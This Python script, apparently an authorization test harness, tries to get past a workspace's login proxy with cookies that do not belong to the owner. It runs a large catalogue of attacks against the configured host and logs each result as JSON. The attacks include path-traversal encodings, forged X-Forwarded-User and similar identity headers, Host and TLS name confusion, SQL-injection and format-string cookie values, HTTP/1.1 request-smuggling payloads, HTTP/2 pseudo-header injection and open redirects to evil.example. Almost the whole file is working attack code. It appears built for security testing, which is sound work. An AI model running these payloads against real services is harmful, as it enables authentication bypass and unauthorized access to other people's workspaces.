"""Tries to get past the login of a workspace with each of the given cookies, none of which is its owner's, by every trick of
the list, and prints a line of JSON for each try. A recorder stands behind the door: a response of it is marked.

usage: attacks.py TASK.json
"""
import json
import socket
import ssl
import sys
import time
from concurrent.futures import ThreadPoolExecutor

import h2.config
import h2.connection
import h2.events
import h2.exceptions

with open(sys.argv[1]) as file:
    task = json.load(file)
ADDRESS, PORT = task["address"], task["port"]
HOST = f"{task['name']}.{task['domain']}"
OTHER = f"{task['colleague']}.{task['domain']}"
OWNER = task["owner"]
COOKIE = task["cookie_name"]
KEY = ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")
UPGRADE = [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"), KEY]


def request(target="/", method="GET", host=HOST, headers=(), version="HTTP/1.1", end="\r\n", close=True, body=""):
    """A function of a cookie that returns the bytes of a request."""

    def made(cookie):
        lines = [f"{method} {target} {version}"]
        if host is not None:
            lines.append(f"Host: {host}")
        lines += [f"{name}: {value.replace('COOKIE', cookie)}" for name, value in headers]
        if cookie and not any(name.lower() == "cookie" for name, _ in headers):
            lines.append(f"Cookie: {cookie}")
        if close and not any(name == "Connection" for name, _ in headers):
            lines.append("Connection: close")
        return (end.join(lines) + end + end + body.replace("COOKIE", cookie)).encode("utf-8", "surrogateescape")

    return made


PATHS = """
/ /?folder=/home/coder /stable/static/x.js /proxy/3000/ /healthz /healthz/.. /healthz%2f.. //healthz
/.login/../ /.login/%2e%2e/ /.login/..%2f /.login/%2e%2e%2f /.login/..;/ /.login/;/../ /.login%2f../ /.login/.%2e/x
/%2elogin/callback?logout=x //.login/start /x/..%2f.login/start /x/../.login/../ /.login/callback/../../ /.login /.LOGIN/
/.login/%00 /.login/%0d%0a /.login\\..\\ /\\ /%5c..%5c / // /// /%2f /%2F%2e%2e%2f /./ /.. /../ /../../etc/passwd
/%252e%252e/ /.login/%252e%252e/ /..%c0%af /%u002e%u002e/ /.login/style.css/../../x /.login/style.css%2f..%2f..%2fx
/port /team /link /ok /pages/ok /.login/pages/ok /server-status /httpd.conf /.login/httpd.conf /.login/../provider
/.login/callback?info=json /.login/callback?revoke_session=x /.login/callback?jwks=rsa /.login/callback?session=check
/.login/callback?refresh=/&access_token=x /.login/callback?remove_at_cache=x /.login/callback?request_uri=x
/.login/callback?code=x&state=y /.login/callback?error=access_denied&state=%3Cscript%3E /.login/callback#x
/.login/callback?iss=https://evil.example&target_link_uri=https://evil.example
/.login/start?to=https://evil.example/ /.login/start?to=//evil.example/ /.login/start?to=%5c%5cevil.example
/.login/go?to=/../ /.login/logout/../.. /?.login/ /#/.login/ /;.login/ /%20/.login/ /.login/%20/../..
""".split()
TARGETS = [
    f"http://{HOST}/", f"https://{HOST}/", f"HTTPS://{HOST}:443/", f"http://{OTHER}/", f"http://{HOST}/.login/../",
    f"https://user@{HOST}/", f"https://{OTHER}@{HOST}/", f"https://{HOST}@{OTHER}/", "http://127.0.0.1:20000/", "http://[::1]/",
    "", "*", "/ /", "?", "x", f"//{HOST}/", f"///{HOST}//x", "file:///etc/passwd", "javascript:x",
]
HOSTS = [
    f"{HOST}:443", f"{HOST}:80", f"{HOST}:20000", f"{HOST}:", HOST.upper(), HOST.title(), f"{HOST}.", f"{HOST}.:443", f"{HOST}..",
    f".{HOST}", f" {HOST}", f"{HOST} ", f"{HOST}\t", f"user@{HOST}", f"user:pass@{HOST}", f"{HOST}@{OTHER}", f"{HOST},{OTHER}",
    f"{OTHER},{HOST}", f"{HOST}/.login/", f"{HOST}?x", f"{HOST}#x", f"{HOST}\\", f"3000.{HOST}", f"3000.{OTHER}", f"x.3000.{HOST}",
    "localhost", "127.0.0.1", "[::1]", ADDRESS, "", HOST.replace("a", "а", 1), HOST.replace(".", "。"), HOST.replace("l", "ⓛ", 1),
    f"xn--{HOST}", f"{HOST}%00", f"{HOST}\x00", f"{task['name']}.internal", f"monitor.{task['domain']}",
]
# What a proxy, a gateway or an application of another kind would believe.
FORGED = [
    *[("X-Forwarded-User", who) for who in (OWNER, task["name"], "", f"{OWNER}, x")],
    *[(name, OWNER) for name in (
        "x-forwarded-user", "X_Forwarded_User", "X-Forwarded_User", "X.Forwarded.User", "Remote-User", "REMOTE_USER", "X-Remote-User",
        "X-User", "X-Auth-Request-Email", "X-Forwarded-Email", "X-Webauth-User", "OIDC_CLAIM_email", "OIDC-CLAIM-email", "Oidc_Claim_Email",
        "X-Forwarded-Preferred-Username", "HTTP_X_FORWARDED_USER",
    )],
    *[("X-Forwarded-For", who) for who in ("127.0.0.1", "::1", f"127.0.0.1, {ADDRESS}")],
    *[(name, value) for name in ("X-Forwarded-Host", "X_Forwarded_Host") for value in (HOST, OTHER, "localhost", f"{HOST}, {OTHER}")],
    *[(name, value) for name in ("X-Forwarded-Uri", "X-Forwarded-Path", "X-Original-URL", "X-Rewrite-URL", "X-Original-Uri", "X-Forwarded-Prefix")
      for value in ("/.login/", "/healthz")],
    ("X-Forwarded-Method", "OPTIONS"), ("X-Forwarded-Proto", "http"), ("X-Forwarded-Port", "20000"), ("X-Forwarded-Server", HOST),
    ("X-Real-Ip", "127.0.0.1"), ("True-Client-Ip", "127.0.0.1"), ("Client-Ip", "127.0.0.1"), ("Via", "1.1 127.0.0.1"),
    ("Forwarded", f"for=127.0.0.1;host={HOST};proto=https"), ("Forwarded", f"for=\"[::1]\";by={OWNER}"),
    ("X-Http-Method-Override", "OPTIONS"), ("X-Method-Override", "TRACE"), ("X-HTTP-Method", "HEAD"),
    ("Connection", "close, Cookie"), ("Connection", "close, X-Forwarded-Host"), ("Connection", "close, X-Forwarded-User"),
    ("Connection", "close, X-Forwarded-Uri, X-Forwarded-Method"), ("Keep-Alive", "x"), ("Te", "trailers"), ("Trailer", "X-Forwarded-User"),
    ("Authorization", "Basic YWxpY2U6YWxpY2U="), ("Authorization", "Bearer x"), ("Authorization", "None"), ("Proxy-Authorization", "Basic YTpi"),
    ("Sec-Fetch-Site", "none"), ("Sec-Fetch-Mode", "websocket"), ("Sec-Fetch-Dest", "document"), ("Origin", f"https://{HOST}"),
    ("Referer", f"https://{HOST}/"), ("If-None-Match", "*"), ("If-Modified-Since", "Thu, 01 Jan 2099 00:00:00 GMT"), ("Range", "bytes=0-1"),
    ("Expect", "100-continue"), ("Cache-Control", "only-if-cached"), ("X-Session", f"{task['name']}-user={OWNER}"),
]
COOKIES = [
    "COOKIE; COOKIE", f"COOKIE; {COOKIE}=x", f"{COOKIE}=x; COOKIE", f"{COOKIE}=; COOKIE", f"COOKIE, {COOKIE}=x", f"a=b, COOKIE", f"\"COOKIE\"",
    f"{COOKIE}=\"x\"", f"{COOKIE}", f"{COOKIE}==", f";;{COOKIE}=x;;", f"{COOKIE.upper()}=x", f" {COOKIE} = x ", f"{COOKIE}[]=x", f"{COOKIE}%3dx",
    f"{COOKIE}=' or 1=1 --", f"{COOKIE}=' union select value from sessions --", f"{COOKIE}=%", f"{COOKIE}=../../{task['name']}/x",
    f"{COOKIE}=..%2f..%2fx", f"{COOKIE}=%s%n%x", f"{COOKIE}=\x00", f"{COOKIE}=%00", f"{COOKIE}=\x7f\xff", f"{COOKIE}=null", f"{COOKIE}=-", f"{COOKIE}=0",
    f"{COOKIE}={'x' * 8000}", f"{COOKIE}={'x' * 15000}", f"{COOKIE}={'x' * 17000}", "; ".join(f"c{i}=x" for i in range(900)),
    f"__Host-vsc=x; __Secure-vsc=x; __Host-oidc=x; vsc_{task['name']}=x", f"$Version=1; COOKIE; $Path=/", f"{COOKIE}-tries=x; COOKIE",
    f"{COOKIE}={OWNER}", f"{COOKIE}={task['name']}-user={OWNER}&{task['name']}-pw=x", f"mod_auth_openidc_session=x", f"{COOKIE}=eyJhbGciOiJub25lIn0.e30.",
]
SECOND = f"GET /smuggled HTTP/1.1\r\nHost: {HOST}\r\nX-Forwarded-User: {OWNER}\r\nCookie: COOKIE\r\n\r\n"
CHUNK = f"{len(SECOND):x}\r\n{SECOND}\r\n0\r\n\r\n"


def smuggled(headers, body, method="POST", target="/", end="\r\n"):
    return request(target, method, headers=headers, body=body, end=end, close=False)


SMUGGLED = [
    smuggled([("Content-Length", str(len(SECOND) + 5)), ("Transfer-Encoding", "chunked")], f"0\r\n\r\n{SECOND}"),
    smuggled([("Transfer-Encoding", "chunked"), ("Content-Length", "4")], CHUNK),
    *[smuggled([("Content-Length", "5"), ("Transfer-Encoding", value)], f"0\r\n\r\n{SECOND}") for value in (
        "xchunked", " chunked", "chunked, identity", "identity, chunked", "\x0bchunked", "CHUNKED", "chunked;x", "gzip, chunked", "\tchunked")],
    *[smuggled([("Content-Length", "5"), (name, "chunked")], f"0\r\n\r\n{SECOND}") for name in (
        "Transfer-Encoding ", "Transfer_Encoding", "X: y\r\nTransfer-Encoding", "X: y\nTransfer-Encoding", "\tTransfer-Encoding")],
    smuggled([("Content-Length", "0"), ("Content-Length", str(len(SECOND)))], SECOND),
    *[smuggled([("Content-Length", value)], SECOND) for value in ("0", "+0", "-1", "0x0", "0, 0", "00", "0 ", "1e1", "", "99999999999999999999")],
    smuggled([], SECOND, "GET"),
    smuggled([("Content-Length", "0")], SECOND, "GET"),
    smuggled([], SECOND, "GET", "/.login/"),
    smuggled([("Content-Length", "0")], SECOND, "POST", "/.login/style.css"),
    smuggled([("Transfer-Encoding", "chunked")], f"0\r\n\r\n{SECOND}", "POST", "/.login/style.css"),
    smuggled([("Transfer-Encoding", "chunked")], f"0;x=\n\r\n{SECOND}", "POST", "/.login/style.css"),
    smuggled([("Transfer-Encoding", "chunked")], f"ffffffffffffffff1\r\n{SECOND}", "POST"),
    smuggled([("Expect", "100-continue"), ("Content-Length", "0")], SECOND),
    smuggled([("Connection", "Upgrade"), ("Upgrade", "websocket"), KEY], SECOND, "GET", "/.login/"),
    smuggled([], SECOND, "GET", "/.login/", "\n"),
    smuggled([("X", "a\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: " + HOST)], ""),
    smuggled([("X", "a\n\nGET /smuggled HTTP/1.1\nHost: " + HOST)], ""),
]
H2 = {":method": "GET", ":scheme": "https", ":authority": HOST, ":path": "/"}
PSEUDO = [
    {}, {":authority": OTHER, "host": HOST}, {":authority": HOST, "host": OTHER}, {":authority": ""}, {":authority": f"user@{HOST}"},
    {":authority": f"{HOST}:443"}, {":authority": HOST.upper()}, {":authority": f"{HOST}."}, {":scheme": "http"}, {":scheme": "file"}, {":scheme": ""},
    {":scheme": f"https://{HOST}/.login/?"}, {":path": f"https://{HOST}/"}, {":path": "/.login/../"}, {":path": "//"}, {":path": "*"}, {":path": ""},
    {":path": "x"}, {":path": "/.login/ HTTP/1.1\r\nHost: x\r\n\r\nGET /"}, {":path": "/\r\nX-Forwarded-User: " + OWNER}, {":path": "/\x00"},
    {":path": "/ HTTP/1.1"}, {":method": "GET / HTTP/1.1\r\nX: y\r\n\r\nGET"}, {":method": "OPTIONS"}, {":method": "CONNECT", ":protocol": "websocket"},
    {":method": "CONNECT"}, {":method": ""}, {"x-forwarded-user": OWNER}, {"X-Forwarded-User": OWNER}, {"transfer-encoding": "chunked"},
    {"connection": "cookie"}, {"content-length": "5"}, {"te": "trailers, x"}, {"x": f"y\r\nx-forwarded-user: {OWNER}"}, {":x": "y"}, {"cookie ": "x"},
    {"host": HOST}, {"forwarded": f"host={HOST}"}, {"x_forwarded_user": OWNER}, {"upgrade": "websocket", "sec-websocket-key": KEY[1]},
]

# Name, server name of TLS, request. A colleague's name in TLS with the owner's in the request, and the reverse.
TRICKS = [
    *[(f"path {path}", HOST, request(path)) for path in PATHS],
    *[(f"WebSocket {path}", HOST, request(path, headers=UPGRADE)) for path in PATHS[:24]],
    *[(f"target {target!a}", HOST, request(target)) for target in TARGETS],
    *[(f"host {host!a}", HOST, request(host=host)) for host in HOSTS],
    *[(f"WebSocket host {host!a}", HOST, request(host=host, headers=UPGRADE)) for host in HOSTS[:18]],
    ("no host", HOST, request(host=None)),
    ("HTTP/1.0 without a host", HOST, request(host=None, version="HTTP/1.0")),
    ("HTTP/0.9", HOST, lambda cookie: b"GET /\r\n"),
    ("HTTP/2.0 in text", HOST, request(version="HTTP/2.0")),
    ("HTTP/1.2", HOST, request(version="HTTP/1.2")),
    ("two hosts", HOST, request(headers=[("Host", OTHER)])),
    ("two hosts, reversed", HOST, request(host=OTHER, headers=[("Host", HOST)])),
    ("a colleague's name in TLS", OTHER, request()),
    ("a colleague's name in TLS, WebSocket", OTHER, request(headers=UPGRADE)),
    ("the owner's name in TLS, a colleague's in the request", HOST, request(host=OTHER, target=f"https://{HOST}/")),
    ("no name in TLS", None, request()),
    ("a foreign name in TLS", "example.com", request()),
    *[(f"method {method}", HOST, request(method=method)) for method in (
        "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND", "get", "G\tET", "PRI", "X" * 300)],
    ("CONNECT to the door", HOST, request("127.0.0.1:20000", "CONNECT", host="127.0.0.1:20000")),
    *[(f"header {name}: {value}", HOST, request(headers=[(name, value)])) for name, value in FORGED],
    ("folded header", HOST, request(headers=[("X", f"a\r\n X-Forwarded-User: {OWNER}")])),
    ("header after a null byte", HOST, request(headers=[("X\x00", "y"), ("X-Forwarded-User", OWNER)])),
    ("header without a name", HOST, request(headers=[("", OWNER)])),
    *[(f"cookie {value[:60]!a}", HOST, request(headers=[("Cookie", value)])) for value in COOKIES],
    ("two cookie headers", HOST, request(headers=[("Cookie", f"{COOKIE}=x"), ("Cookie", "COOKIE")])),
    ("two cookie headers, reversed", HOST, request(headers=[("Cookie", "COOKIE"), ("Cookie", f"{COOKIE}=x")])),
    ("WebSocket", HOST, request(headers=UPGRADE)),
    ("WebSocket without a key", HOST, request(headers=UPGRADE[:2])),
    ("WebSocket with a body", HOST, request(headers=[*UPGRADE, ("Content-Length", "5")], body="hello")),
    ("WebSocket by POST", HOST, request(method="POST", headers=UPGRADE)),
    ("Upgrade: h2c", HOST, request(headers=[("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")])),
    ("Upgrade: h2c, WebSocket", HOST, request(headers=[("Connection", "Upgrade"), ("Upgrade", "h2c, websocket"), KEY])),
    ("Upgrade: TLS", HOST, request(headers=[("Connection", "Upgrade"), ("Upgrade", "TLS/1.2")])),
    ("Upgrade without Connection", HOST, request(headers=[("Upgrade", "websocket"), KEY])),
    *[(f"smuggled {number}", HOST, made) for number, made in enumerate(SMUGGLED)],
    *[(f"HTTP/2 {change!a}", HOST, change) for change in PSEUDO],
    # Last: an attempt to sign in ends the session that there was.
    ("path /.login/submit", HOST, request("/.login/submit")),
]


def connect(name, protocols=("http/1.1",)):
    context = ssl.create_default_context(cafile=task["authority"])
    # Of all names the one in TLS may have no certificate.
    context.check_hostname = False
    context.set_alpn_protocols(list(protocols))
    context.verify_mode = ssl.CERT_NONE
    connection = context.wrap_socket(socket.create_connection((ADDRESS, PORT), 20), server_hostname=name)
    connection.settimeout(4)
    return connection


def drain(connection):
    answer = b""
    try:
        while more := connection.recv(65536):
            answer += more
            if b"101 Switching" in answer:
                break
    except (OSError, ssl.SSLError):
        pass
    return answer


def over_http1(name, data):
    with connect(name) as connection:
        try:
            connection.sendall(data)
        except OSError:
            pass
        answer = drain(connection)
    line = answer.split(b"\r\n")[0].split()
    return int(line[1]) if len(line) > 1 and line[1].isdigit() else 0, answer


def over_http2(name, change, cookie):
    headers = list({**H2, **change}.items())
    headers.sort(key=lambda header: not header[0].startswith(":"))
    if cookie:
        # In pieces, as browsers send them.
        headers += [("cookie", piece) for piece in cookie.split("; ")]
    configuration = h2.config.H2Configuration(
        validate_outbound_headers=False, normalize_outbound_headers=False, validate_inbound_headers=False, header_encoding=None
    )
    status, answer = 0, b""
    with connect(name, ["h2"]) as connection:
        peer = h2.connection.H2Connection(configuration)
        peer.initiate_connection()
        peer.send_headers(1, headers, end_stream=True)
        try:
            connection.sendall(peer.data_to_send())
            while data := connection.recv(65536):
                for event in peer.receive_data(data):
                    if isinstance(event, h2.events.ResponseReceived):
                        fields = dict(event.headers)
                        status = int(fields[b":status"])
                        answer += b"".join(name + value for name, value in event.headers)
                    if isinstance(event, h2.events.DataReceived):
                        answer += event.data
                    if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated)):
                        return status, answer
                connection.sendall(peer.data_to_send())
        except (OSError, h2.exceptions.ProtocolError):
            pass
    return status, answer


def attempt(name, made, cookie):
    for _ in range(20):
        try:
            status, answer = over_http2(name, made, cookie) if isinstance(made, dict) else over_http1(name, made(cookie))
        except (OSError, ssl.SSLError):
            return 0, b""
        # The rate limit is not what is tried here.
        if status != 429:
            break
        time.sleep(1)
    return status, answer


def tried(job):
    identity, cookie, (trick, name, made) = job
    status, answer = attempt(name, made, cookie)
    reached = b"REACHED" in answer or b"x-reached" in answer.lower()
    return {"identity": identity, "trick": trick, "status": status, "reached": reached}


jobs = [(identity, cookie, trick) for identity, cookie in task["identities"].items() for trick in TRICKS[:: task["every"]]]
with ThreadPoolExecutor(16) as workers:
    for result in workers.map(tried, jobs):
        print(json.dumps(result))
